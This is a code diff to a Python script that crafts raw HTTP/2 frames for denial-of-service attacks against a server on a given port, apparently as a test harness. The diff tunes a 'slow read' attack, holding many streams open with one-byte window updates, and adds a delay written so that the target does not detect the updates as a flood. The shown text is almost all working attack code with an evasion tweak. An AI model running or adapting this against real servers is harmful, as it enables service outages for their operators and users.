@@ -5,6 +5,7 @@ Then it prints what it did as one line of JSON.
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import signal
@@ -41,6 +42,8 @@ AT_ONCE = 50
 BATCH = 500
 CANCEL = 8
 PAUSE_S = 0.05
+ANSWERS_S = 1.0
+READ_BYTES = 1 << 16
 GREETING = PREFACE + settings({})
 # GET http bench, from HPACK's static table (RFC 7541, appendix A) and literals that are not indexed.
 REQUEST = b"\x82\x86\x01\x05bench"
@@ -87,7 +90,10 @@ def continuations(turn: int) -> bytes:
 
 
 def slow_read(port: int) -> Attack:
-    """Many streams of a large body each, with windows that open by one byte, twenty times a second."""
+    """Many streams of a large body each, with windows that open by one byte, twenty times a second, once the answers have begun.
+
+    Before that a node would count the updates as a flood, and be rid of the attack. What comes is read, so that only the windows are slow.
+    """
     held = []
     head = PREFACE + settings({INITIAL_WINDOW_SIZE: 0})
     head += b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * at, REQUEST + BIG) for at in range(STREAMS))
@@ -96,7 +102,11 @@ def slow_read(port: int) -> Attack:
         held.append(connected(port))
         held[-1].sendall(head)
         yield
+    time.sleep(ANSWERS_S)
     while True:
+        for sock in held:
+            with contextlib.suppress(OSError):
+                sock.recv(READ_BYTES, socket.MSG_DONTWAIT)
         yield from _to_each(held, one_byte)
 
 
